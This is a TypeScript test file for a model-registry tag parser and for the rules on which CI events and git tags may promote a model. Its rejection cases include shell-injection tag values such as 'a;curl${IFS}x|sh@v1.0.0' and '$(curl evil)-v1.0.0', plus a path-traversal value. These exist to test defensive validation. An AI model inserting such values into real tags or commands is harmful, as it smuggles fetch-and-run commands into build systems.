import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { demandModelTag, demandPromotionEvent, parseTag } from '../../src/registry/tag.ts';

describe('tags', () => {
  test.each([
    ['v1.4.0', { form: 'semver', model: null, version: '1.4.0', stage: null }],
    ['refs/tags/1.4.0-rc.1+build', { form: 'semver', model: null, version: '1.4.0-rc.1+build', stage: null }],
    ['digits-v1.4.0', { form: 'component-semver', model: 'digits', version: '1.4.0', stage: null }],
    ['digits-vit-1.4.0', { form: 'component-semver', model: 'digits-vit', version: '1.4.0', stage: null }],
    ['digits/v1.4.0', { form: 'component-semver', model: 'digits', version: '1.4.0', stage: null }],
    ['digits@v1.4.0', { form: 'gto-version', model: 'digits', version: '1.4.0', stage: null }],
    ['models=digits@v1.4.0', { form: 'gto-version', model: 'models=digits', version: '1.4.0', stage: null }],
    ['digits#production', { form: 'gto-stage', model: 'digits', version: null, stage: 'production' }],
    ['digits#production#3', { form: 'gto-stage', model: 'digits', version: null, stage: 'production' }],
  ])('%s', (tag, expected) => {
    expect(parseTag(tag)).toEqual(expected);
  });

  test.each([
    'latest',
    'v1.4',
    'v01.4.0',
    'digits@v1.4.0!',
    'digits@deprecated',
    'digits#production!#3',
    'a$(id)-v1.0.0',
    'a;curl${IFS}x|sh@v1.0.0',
    '../x-v1.0.0',
    '-v1.0.0',
    `${'a'.repeat(300)}-v1.0.0`,
    'v1.0.0\n',
  ])('%j is about no model', (tag) => {
    expect(parseTag(tag)).toBeNull();
  });

  test('a pattern of one’s own', () => {
    expect(parseTag('release/digits/2.0.1', 'release/{model}/{version}')).toEqual({
      form: 'pattern',
      model: 'digits',
      version: '2.0.1',
      stage: null,
    });
    expect(parseTag('deploy.production', 'deploy.{stage}')).toMatchObject({ stage: 'production' });
    expect(parseTag('deployXproduction', 'deploy.{stage}')).toBeNull();
    for (const pattern of ['{model}', '{version}{version}', '{name}-{version}', 'v1']) {
      expect(() => parseTag('v1.0.0', pattern)).toThrow('must hold {version} or {stage}');
    }
  });

  test('any text is read quickly, and what comes out holds nothing that a shell knows', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 250 }), (tag) => {
        const parsed = parseTag(tag);
        for (const part of [parsed?.model, parsed?.version, parsed?.stage]) expect(part ?? '').toMatch(/^[\w.=+-]*$/);
      }),
    );
  });
});

describe('events', () => {
  test.each([
    ['push', 'refs/heads/main', ['push']],
    ['push', 'refs/tags/v1.0.0', ['tag']],
    ['release', 'refs/tags/v1.0.0', ['tag']],
    ['workflow_dispatch', 'refs/heads/main', []],
    [null, null, []],
  ] as const)('%s of %s promotes where %j is allowed', (event, ref, on) => {
    expect(() => demandPromotionEvent({ event, ref }, on)).not.toThrow();
  });

  test.each([
    ['pull_request', 'refs/pull/1/merge'],
    ['pull_request_target', 'refs/heads/main'],
    ['pull_request_review', 'refs/pull/1/merge'],
    ['issue_comment', 'refs/heads/main'],
    ['workflow_run', 'refs/heads/main'],
    ['merge_group', 'refs/heads/queue'],
  ])('%s never promotes', (event, ref) => {
    expect(() => demandPromotionEvent({ event, ref }, ['push', 'tag'])).toThrow('Nothing is promoted on the event');
  });

  test('a tag does not promote where only pushes do, nor the other way round', () => {
    expect(() => demandPromotionEvent({ event: 'push', ref: 'refs/tags/v1.0.0' }, ['push'])).toThrow(
      'A tag does not promote here',
    );
    expect(() => demandPromotionEvent({ event: 'push', ref: 'refs/heads/main' }, ['tag'])).toThrow(
      'A push does not promote here',
    );
  });
});

describe('the tag that a workflow runs on', () => {
  const place = { model: 'digits', stage: 'production' };

  test.each(['v1.4.0', 'digits-v1.4.0', 'digits@v1.4.0', 'digits#production#3'])('%s is about this model', (tag) => {
    expect(demandModelTag(`refs/tags/${tag}`, place)).toEqual(parseTag(tag));
  });

  test.each([null, 'refs/heads/main', 'refs/heads/v1.4.0'])('%s is none', (ref) => {
    expect(demandModelTag(ref, place)).toBeNull();
  });

  test.each([
    ['letters-v1.4.0', /about the model "letters".*promote digits/],
    ['digits#staging', /about the stage "staging".*promote to production/],
    ['nightly', /names no version of a model.*digits-v1\.4\.0/],
    ['digits@v1.4.0!', /names no version/],
    ['$(curl evil)-v1.0.0', /names no version/],
  ])('%s promotes nothing', (tag, sentence) => {
    expect(() => demandModelTag(`refs/tags/${tag}`, place)).toThrow(sentence);
  });

  test('a pattern of the policy holds instead of the forms that are known', () => {
    expect(demandModelTag('refs/tags/release/1.4.0', place, 'release/{version}')).toMatchObject({ version: '1.4.0' });
    expect(() => demandModelTag('refs/tags/v1.4.0', place, 'release/{version}')).toThrow('release/{version}');
  });
});
